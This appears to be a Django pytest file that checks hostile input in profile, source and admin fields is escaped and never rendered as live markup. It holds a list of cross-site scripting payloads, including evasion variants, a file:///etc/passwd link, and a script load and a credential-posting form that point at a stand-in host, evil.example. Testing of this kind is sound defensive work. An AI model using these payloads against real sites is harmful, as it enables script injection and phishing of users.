"""Hostile text typed into any field never reaches a page as live markup."""

import pytest
from django.urls import reverse

from tests.factories import make_profile, make_source
from tests.html import live_markup, parse

pytestmark = pytest.mark.django_db

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<b onmouseover=alert(1)>hover</b>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=https://evil.example><input name=p></form>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<style>body{display:none}</style>",
    "<<script>script>alert(1)<</script>/script>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](&#106;avascript:alert(1))",
    "<details open ontoggle=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</script>",
    "[[<script>alert(1)</script>]]",
    "[[x|<img src=x onerror=alert(1)>]]",
    "<p>unclosed <b>markup <i>everywhere",
    "`<script>alert(1)</script>`",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_in_profile_fields_never_becomes_live_markup(client, payload):
    source = make_source(
        title=payload,
        authors=payload,
        publication=payload,
        url="https://courier.example/safe/",
        archive_url="https://archive.example/safe/",
    )
    profile = make_profile(
        "Harbor Literacy Fund",
        location=payload,
        aliases=payload,
        lead=f"{payload} Opening.[^first]",
        body=f"## {payload}\n\n{payload}[^first]\n\n### Sub\n\n{payload}",
        facts=[("Website", payload), ("Founders", f"{payload} [^first]")],
        types=[payload[:100]],
        citations={"first": source},
    )
    make_profile("Linker Org", lead=f"See [[Harbor Literacy Fund]]. {payload}[^first]")
    for url in [
        profile.get_absolute_url(),
        reverse("profiles:source", args=[source.pk]),
        reverse("profiles:home"),
        reverse("profiles:browse"),
    ]:
        soup = parse(client.get(url))
        assert live_markup(soup) == [], url


@pytest.mark.parametrize("payload", HOSTILE[:12])
def test_hostile_text_is_escaped_in_the_admin_too(editor_client, payload):
    source = make_source(title=payload, publication=payload)
    profile = make_profile(payload[:150] or "x", slug="hostile", citations={"first": source})
    for url in [
        reverse("admin:profiles_profile_changelist"),
        reverse("admin:profiles_profile_change", args=[profile.pk]),
        reverse("admin:profiles_source_changelist"),
    ]:
        soup = parse(editor_client.get(url))
        scripts = [s for s in soup.find_all("script") if not s.get("src") and s.string]
        assert all("alert(1)" not in (s.string or "") for s in scripts)
        assert not [
            tag for tag in soup.find_all(True) if "onerror" in tag.attrs or "onload" in tag.attrs
        ]


def test_the_live_markup_detector_catches_what_it_looks_for():
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(
        '<img src=x onerror=alert(1)><a href="javascript:x">a</a><script>x</script>', "html.parser"
    )
    assert len(live_markup(soup)) == 3
